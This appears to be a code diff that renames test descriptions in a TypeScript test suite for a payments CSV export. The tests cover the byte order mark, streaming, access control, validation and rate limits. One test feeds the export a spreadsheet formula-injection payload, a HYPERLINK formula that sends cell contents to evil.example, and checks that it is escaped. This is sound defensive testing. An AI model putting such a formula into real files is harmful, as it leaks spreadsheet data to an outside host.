@@ -29,8 +29,8 @@ function fieldsOf(csv: string): string[][] {
   return rows.slice(0, -1);
 }
 
-describe("the file of payments", () => {
-  it("holds every payment that the filters let through, times in the zone and in UTC", async () => {
+describe("the payments export", () => {
+  it("has every payment matching the filters, with times in the zone and in UTC", async () => {
     const merchant = await newMerchant();
     const createdAt = new Date("2026-11-20T19:05:06.789Z");
     const kept = bookedPayment(merchant, {
@@ -67,14 +67,14 @@ describe("the file of payments", () => {
     });
   });
 
-  it("begins with the mark by which spreadsheets know UTF-8", async () => {
+  it("starts with the byte order mark by which spreadsheets recognize UTF-8", async () => {
     const { owner } = await newMerchant();
     const response = await requestAccount(owner, exportPayments);
     const bytes = new Uint8Array(await response.arrayBuffer());
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   });
 
-  it("gives a spreadsheet nothing to carry out", async () => {
+  it("contains nothing that a spreadsheet executes", async () => {
     const merchant = await newMerchant();
     const evil = [
       `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
@@ -95,7 +95,7 @@ describe("the file of payments", () => {
     for (const text of evil) expect(shown.filter((field) => field === `'${text}`)).toHaveLength(2);
   });
 
-  it("is made as it is taken: 12,000 rows in order, and none are read for who has gone away", async () => {
+  it("is streamed: 12,000 rows in order, and none are read after the client disconnects", async () => {
     const merchant = await newMerchant();
     const { organizationId, userId } = merchant.owner;
     await query(Prisma.sql`
@@ -124,7 +124,7 @@ describe("the file of payments", () => {
     );
   });
 
-  it("is downloaded by a link, which says organization and mode in its address", async () => {
+  it("is downloaded by a link with the organization and mode in its URL", async () => {
     const merchant = await newMerchant();
     const other = await newMerchant();
     await book([bookedPayment(merchant)]);
@@ -140,7 +140,7 @@ describe("the file of payments", () => {
     expect((await download(other.owner.organizationId, "test")).status).toBe(403);
   });
 
-  it("is refused before it begins: without a session, and with a filter that is none", async () => {
+  it("is refused before it starts: without a session, and with an invalid filter", async () => {
     const merchant = await newMerchant();
     const accountant = await newMember(merchant.organization.id, "accountant");
     expect((await callAccount(accountant, exportPayments)).status).toBe(200);
@@ -150,7 +150,7 @@ describe("the file of payments", () => {
     expect(wrong.body.message).toContain("payer_phone must be a phone number");
   });
 
-  it("is made ten times a minute for each member, and then refused with a time to wait", async () => {
+  it("can be downloaded ten times a minute by each member, then is refused with Retry-After", async () => {
     const merchant = await newMerchant();
     const { owner } = merchant;
     const refunds = accountOperations.exportRefunds;
